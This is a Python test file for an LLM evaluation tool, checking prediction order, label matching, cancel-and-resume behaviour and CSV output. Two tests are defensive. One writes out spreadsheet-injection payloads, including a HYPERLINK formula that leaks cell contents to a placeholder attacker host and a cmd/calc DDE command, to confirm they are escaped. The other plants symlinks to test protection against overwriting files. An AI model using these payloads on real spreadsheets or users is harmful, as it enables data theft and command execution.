"""The evaluation recipe on stand-in models (any callable) and on the tiny models: order, labels, cancelling,
windows, the worst rows."""

from __future__ import annotations

import random
import threading
import zlib

import pandas as pd
import pytest
from helpers import cpu_placement, read_rows

from llm_demo.errors import InputError, ModelError
from llm_demo.evaluation import downloads
from llm_demo.evaluation.reading import Table
from llm_demo.evaluation.results import Predictor, WorstRow
from llm_demo.evaluation.run import evaluate
from llm_demo.evaluation.tallies import WorstRows, match_label
from llm_demo.models.types import Classification, LabelScore
from llm_demo.tasks.classification import classify


def table_of(**columns) -> Table:
    return Table(pd.DataFrame(columns, dtype=str), 0, "test.csv")


def written(result, column: str = "prediction") -> list[str]:
    """One column of the predictions.csv the run wrote."""
    return [row[column] for row in read_rows(result.predictions_path)]


def echo_predictor(
    batch_size: int = 2, fail_after: int | None = None, labels=("negative", "positive"), name: str = "echo"
) -> Predictor:
    """Predicts the label written in the text ("... positive"); serves batches longest text first, as the tasks do."""

    def run(texts):
        order = sorted(range(len(texts)), key=lambda i: -len(texts[i]))
        for number, start in enumerate(range(0, len(order), batch_size)):
            if fail_after is not None and number == fail_after:
                raise ModelError("out_of_memory", "Out of memory.")
            batch = order[start : start + batch_size]
            yield batch, [Classification([LabelScore(texts[i].split()[-1], 0.9)]) for i in batch]

    return Predictor(name, run, labels=list(labels))


SENTIMENT = table_of(
    text=["a positive", "bb negative", "ccc positive", "dddd negative", "eeeee positive"],
    label=["positive", "negative", "negative", "negative", "positive"],
)
COLUMNS = {"text": "text", "label": "label"}


def test_predictions_come_back_in_input_order_with_scikit_learn_metrics(tmp_path):
    result = evaluate("sentiment", SENTIMENT, COLUMNS, [echo_predictor()], tmp_path, bootstrap=0)
    model = result.models[0]
    assert written(result) == ["positive", "negative", "positive", "negative", "positive"]
    assert model.metrics.accuracy == 0.8
    assert model.worst == [WorstRow(2, "ccc positive", "negative", "positive", 0.9)]  # the only misclassified row
    assert model.status == "complete" and model.timing.batches == 3


@pytest.mark.parametrize(
    "reference, expected",
    [
        ("POSITIVE", "positive"),
        (" Negative ", "negative"),
        ("1", "positive"),
        ("0", "negative"),
        ("2", None),
        ("pos", None),
    ],
)
def test_reference_labels_match_case_insensitively_or_by_class_id(reference, expected):
    assert match_label(reference, ["negative", "positive"]) == expected


def test_unknown_labels_are_counted_and_left_out_of_the_metrics(tmp_path):
    table = table_of(
        text=["x positive", "y negative", "z positive", "w positive"], label=["POSITIVE", "0", "great", "great"]
    )
    result = evaluate("sentiment", table, COLUMNS, [echo_predictor()], tmp_path, bootstrap=0)
    model = result.models[0]
    assert model.unknown_labels == {"great": 2}
    assert model.metrics.accuracy == 1.0 and sum(c.support for c in model.metrics.per_class) == 2
    assert written(result) == ["positive", "negative", "positive", "positive"]  # still predicted and shown


def test_zero_shot_candidates_are_the_labels_of_the_file():
    from llm_demo.evaluation.recipes import candidate_labels

    assert candidate_labels(["sports", "Food", "SPORTS", "food ", "politics"]) == ["sports", "Food", "politics"]


def test_cancel_keeps_the_finished_rows_and_marks_the_others(tmp_path):
    cancel = threading.Event()
    seen = []

    def on_progress(progress):
        seen.append((progress.done, progress.total))
        cancel.set()

    result = evaluate(
        "sentiment",
        SENTIMENT,
        COLUMNS,
        [echo_predictor(), echo_predictor(name="echo 2")],
        tmp_path,
        on_progress=on_progress,
        cancel=cancel,
        bootstrap=0,
    )
    first, second = result.models
    assert seen == [(2, 10)]
    assert (first.status, second.status) == ("cancelled", "cancelled")
    assert written(result) == ["", "", "", "negative", "positive"]  # the two longest texts ran first
    assert written(result, "status [echo]") == ["not_finished"] * 3 + ["done"] * 2
    assert first.metrics.accuracy == 1.0 and (first.rows_not_finished, second.rows_done) == (3, 0)
    assert not result.finished


def test_a_failure_half_way_keeps_the_rows_that_finished(tmp_path):
    result = evaluate("sentiment", SENTIMENT, COLUMNS, [echo_predictor(fail_after=1)], tmp_path, bootstrap=0)
    model = result.models[0]
    assert (model.status, model.error) == ("failed", "Out of memory.")
    assert model.rows_done == 2
    assert written(result, "status") == ["not_finished"] * 3 + ["done"] * 2
    _, metrics_path = downloads.write_downloads(result)
    assert '"rows_not_finished": 3' in metrics_path.read_text(encoding="utf-8")


def test_progress_reports_rows_per_second_and_time_left(tmp_path):
    progress = []
    evaluate("sentiment", SENTIMENT, COLUMNS, [echo_predictor()], tmp_path, on_progress=progress.append, bootstrap=0)
    assert [p.done for p in progress] == [2, 4, 5]
    assert progress[0].rows_per_second > 0 and progress[0].eta_seconds == pytest.approx(3 / progress[0].rows_per_second)
    assert progress[-1].eta_seconds == 0


def test_rows_with_an_empty_required_cell_are_skipped_not_dropped(tmp_path):
    table = table_of(text=["a positive", "", "c negative"], label=["positive", "negative", ""])
    result = evaluate("sentiment", table, COLUMNS, [echo_predictor()], tmp_path, bootstrap=0)
    assert written(result, "status") == ["done", "skipped", "skipped"]
    assert result.rows_skipped == 2 and result.models[0].rows_not_finished == 0


def test_batch_size_caps_rows_per_batch_and_keeps_order(load, registry, tmp_path):
    texts = [f"review number {i} " + "word " * (i % 7) for i in range(23)]
    table = table_of(text=texts, label=["positive"] * 23)
    sizes = []
    result = evaluate(
        "sentiment",
        table,
        COLUMNS,
        ["Tiny BERT sentiment"],
        tmp_path,
        registry,
        on_progress=lambda p: sizes.append(p.done),
        batch_size=5,
        bootstrap=0,
    )
    steps = [b - a for a, b in zip([0] + sizes, sizes)]
    assert max(steps) <= 5 and sum(steps) == 23
    expected = classify(load("sentiment", "Tiny BERT sentiment", "sequence-classification"), texts)
    assert written(result) == [r.label for r in expected]


def test_tiny_models_evaluate_like_the_tasks_they_reuse(load, registry, tiny, tmp_path):
    table = table_of(text=["good film", "bad film", "很好"], label=["positive", "NEGATIVE", "2"])
    result = evaluate(
        "sentiment",
        table,
        COLUMNS,
        ["Tiny BERT sentiment", str(tiny.sentiment)],
        tmp_path,
        registry,
        budget=64,
        bootstrap=0,
    )
    expected = classify(load("sentiment", "Tiny BERT sentiment", "sequence-classification"), list(table.frame.text))
    assert [written(result, f"prediction [{m.model}]") for m in result.models] == [[r.label for r in expected]] * 2
    assert result.models[0].timing.device == cpu_placement()


def test_predictions_csv_has_every_row_and_escapes_formulas(tmp_path):
    table = table_of(
        text=["=HYPERLINK(1) positive", "+1 negative", "@x positive", "-2 negative", "ok positive"],
        label=["positive", "negative", "positive", "negative", "positive"],
    )
    result = evaluate(
        "sentiment", table, COLUMNS, [echo_predictor(), echo_predictor(batch_size=5)], tmp_path, bootstrap=0
    )
    predictions_path, _ = downloads.write_downloads(result)
    rows = read_rows(predictions_path)
    assert [row["text"] for row in rows] == [
        "'=HYPERLINK(1) positive",
        "'+1 negative",
        "'@x positive",
        "'-2 negative",
        "ok positive",
    ]
    assert [row["prediction"] for row in rows] == ["positive", "negative", "positive", "negative", "positive"]
    assert rows[0]["prediction [echo]"] == "positive" and "status [echo]" in rows[0]


def test_predictions_csv_escapes_column_names_quotes_every_field_and_keeps_numbers(tmp_path):
    """OWASP's CSV injection: the header is escaped like the cells, and a label -1 is still the number -1."""
    link = '=HYPERLINK("http://evil.example/?"&A2,"x")'
    table = Table(
        pd.DataFrame({"text": ["x;=cmd|' /C calc'!A0 positive"], "label": ["-1"], link: ["+3.5"]}, dtype=str),
        0,
        "test.csv",
    )
    result = evaluate("sentiment", table, COLUMNS, [echo_predictor()], tmp_path, bootstrap=0)
    lines = result.predictions_path.read_text(encoding="utf-8-sig").splitlines()
    assert lines[0].split(",")[:3] == ['"text"', '"label"', '"\'=HYPERLINK(""http://evil.example/?""&A2']
    assert lines[1].startswith('"x;=cmd|\' /C calc\'!A0 positive","-1","+3.5","positive",')
    assert list(read_rows(result.predictions_path)[0])[2] == "'" + link


def reviews(count: int, seed: int = 0) -> Table:
    """Length-skewed rows whose label is right about two times in three, some labels unknown to the model."""
    rng = random.Random(seed)
    texts = [
        " ".join(["word"] * rng.choice([1, 2, 3, 30])) + f" {i} " + rng.choice(["positive", "negative"])
        for i in range(count)
    ]
    labels = [
        text.split()[-1] if rng.random() < 0.66 else rng.choice(["positive", "negative", "meh"]) for text in texts
    ]
    return table_of(text=texts, label=labels)


def scored_predictor() -> Predictor:
    """Like echo_predictor, with a score that differs by row, so the worst rows have an order."""

    def run(texts):
        order = sorted(range(len(texts)), key=lambda i: -len(texts[i]))
        for start in range(0, len(order), 3):
            batch = order[start : start + 3]
            yield (
                batch,
                [
                    Classification([LabelScore(texts[i].split()[-1], 0.5 + zlib.crc32(texts[i].encode()) % 500 / 1000)])
                    for i in batch
                ],
            )

    return Predictor("scored", run, labels=["negative", "positive"])


def test_windows_of_rows_give_the_results_of_the_whole_file_at_once(tmp_path):
    table = reviews(200)
    whole = evaluate("sentiment", table, COLUMNS, [scored_predictor()], tmp_path / "whole", bootstrap=300)
    windows = evaluate("sentiment", table, COLUMNS, [scored_predictor()], tmp_path / "windows", bootstrap=300, window=7)
    assert windows.models[0].metrics == whole.models[0].metrics
    assert windows.models[0].worst == whole.models[0].worst and len(whole.models[0].worst) == 10
    assert windows.models[0].unknown_labels == whole.models[0].unknown_labels != {}
    assert windows.predictions_path.read_bytes() == whole.predictions_path.read_bytes()


def test_window_batching_on_a_tiny_model_predicts_as_the_task_does(load, registry, tmp_path):
    table = reviews(60, seed=1)
    result = evaluate("sentiment", table, COLUMNS, ["Tiny BERT sentiment"], tmp_path, registry, bootstrap=0, window=16)
    expected = classify(load("sentiment", "Tiny BERT sentiment", "sequence-classification"), list(table.frame.text))
    assert written(result) == [r.label for r in expected]


def test_a_stopped_run_continues_to_the_metrics_of_a_run_never_stopped(tmp_path):
    table = reviews(100, seed=2)
    whole = evaluate("sentiment", table, COLUMNS, [scored_predictor()], tmp_path / "whole", bootstrap=300, window=9)
    cancel = threading.Event()
    calls = []

    def stop_at_some_batch(progress):
        calls.append(progress)
        if len(calls) == 17:  # two batches into the sixth window of three batches
            cancel.set()

    stopped = evaluate(
        "sentiment",
        table,
        COLUMNS,
        [scored_predictor()],
        tmp_path / "run",
        bootstrap=300,
        window=9,
        on_progress=stop_at_some_batch,
        cancel=cancel,
    )
    assert stopped.models[0].status == "cancelled" and 0 < stopped.models[0].rows_done < 100
    resumed = evaluate(
        "sentiment", table, COLUMNS, [scored_predictor()], tmp_path / "run", bootstrap=300, window=9, resume=True
    )
    assert resumed.models[0].status == "complete" and resumed.models[0].metrics == whole.models[0].metrics
    assert resumed.models[0].worst == whole.models[0].worst and resumed.models[0].rows_done == 100
    assert resumed.predictions_path.read_bytes() == whole.predictions_path.read_bytes()


def test_resuming_another_file_or_nothing_is_refused(tmp_path):
    evaluate("sentiment", SENTIMENT, COLUMNS, [echo_predictor()], tmp_path, bootstrap=0)
    with pytest.raises(InputError) as caught:
        evaluate("sentiment", reviews(5), COLUMNS, [echo_predictor()], tmp_path, resume=True)
    assert caught.value.key == "resume_mismatch" and "file" in str(caught.value)
    with pytest.raises(InputError) as caught:
        evaluate("sentiment", SENTIMENT, COLUMNS, [echo_predictor()], tmp_path / "never", resume=True)
    assert caught.value.key == "nothing_to_resume"


def test_worst_rows_keep_a_bounded_number_worst_first_earlier_rows_winning_ties():
    worst = WorstRows(size=3)
    rng = random.Random(0)
    badness = [rng.choice([0.1, 0.5, 0.9, None]) for _ in range(5000)]
    for row, value in enumerate(badness):
        worst.offer(value, row, lambda row=row, value=value: WorstRow(row, f"text {row}", "", "x", value))
        assert len(worst.heap) <= 3
    first_nines = [row for row, value in enumerate(badness) if value == 0.9][:3]
    assert [row.row for row in worst.rows()] == first_nines
    again = WorstRows(size=3)
    again.restore(worst.state())
    assert again.rows() == worst.rows()


def test_a_link_planted_in_a_run_folder_is_never_written_through(tmp_path):
    from llm_demo.evaluation.store import RunFolder, write_file

    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n", encoding="utf-8")
    folder = RunFolder(tmp_path / "run")
    folder.folder.mkdir()
    for name in ("predictions.csv", "state.json.tmp", "metrics.json"):
        (folder.folder / name).symlink_to(victim)
    folder.start(["text", "label"])
    folder.append([["a", "b"]])
    folder.commit({"rows": 1})
    write_file(folder.metrics, "{}")
    assert victim.read_text(encoding="utf-8") == "precious\n"
    assert not any(path.is_symlink() for path in folder.folder.iterdir())
    assert folder.predictions.read_bytes() == '\ufeff"text","label"\r\n"a","b"\r\n'.encode()
    folder.predictions.unlink()
    folder.predictions.symlink_to(victim)  # swapped in after the run started: appending fails, the victim stays
    with pytest.raises(OSError):
        folder.append([["c", "d"]])
    with pytest.raises(OSError):
        folder.continue_from(folder.saved_state())
    assert victim.read_text(encoding="utf-8") == "precious\n"
